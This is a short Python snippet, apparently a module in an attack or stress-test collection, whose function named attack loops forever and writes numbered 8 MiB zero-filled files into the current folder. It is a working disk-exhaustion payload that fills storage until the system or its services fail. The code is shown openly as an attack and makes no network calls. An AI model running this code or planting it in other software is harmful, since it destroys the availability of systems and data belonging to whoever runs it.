"""Large files without end in its own folder."""
# layers: yes
def attack(name, args, keywords):
    number = 0
    while True:
        number += 1
        with open(f"{number}", "wb") as file:
            file.write(bytes(2**23))
